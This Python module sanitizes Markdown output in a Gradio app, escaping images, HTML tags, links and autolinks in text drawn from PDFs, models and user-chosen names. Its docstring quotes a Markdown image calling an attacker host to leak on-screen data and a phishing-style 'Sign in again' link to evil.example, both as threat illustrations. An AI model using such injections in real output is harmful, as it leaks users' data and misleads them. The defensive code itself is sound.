"""Text from PDFs, models and users shown as Markdown without letting it reach out of the page.

A PDF line like ``![](https://attacker/?q=...)`` or ``<img src=...>`` rendered as Markdown makes
every reader's browser fetch that URL (a tracking pixel, or a way to leak what is on screen).
Gradio's HTML sanitizer keeps images, so images are defused here: ``![`` loses its meaning
and ``<`` is shown as a character instead of starting a tag. Links stay (they need a click).

Names and sentences are another matter: a collection, a file or a user is named by someone else
(another user's shared collection), and an error message repeats such a name. Shown as Markdown,
a name like ``[Sign in again](https://evil.example)`` became a link inside the app's own message.
``plain_text`` makes every character of such text show as itself.
"""

from __future__ import annotations

import re

# The characters that start Markdown or HTML inside a line (links and images, emphasis, code,
# strike-through, tables, entities, KaTeX's $): a backslash makes each literal (CommonMark and
# marked, Gradio's renderer, both honour it). Names have no line breaks, so block syntax (#, -, 1.)
# cannot start a line of the message; quotes, hyphens and dots stay as they are, for the reader.
_MARKUP = re.compile(r"([\\`*_\[\]<>!|~&$])")
# GFM also turns bare "https://..." and "www...." into links: a backslash before the ':' or '.'
# keeps them text.
_AUTOLINK = re.compile(r"(?i)\b(https?|ftp|www)([:.])")


def safe_markdown(text: str) -> str:
    return (text or "").replace("<", "&lt;").replace("![", "!\\[")


def plain_text(text: str) -> str:
    """``text`` as literal characters in Markdown: no link, emphasis, heading, list or HTML."""
    return _AUTOLINK.sub(r"\1\\\2", _MARKUP.sub(r"\\\1", text or ""))


def warning(exc) -> str:
    """A UserError's sentence for a Markdown output: it repeats names users chose, so it is plain text."""
    return "⚠ " + plain_text(exc.user_message)
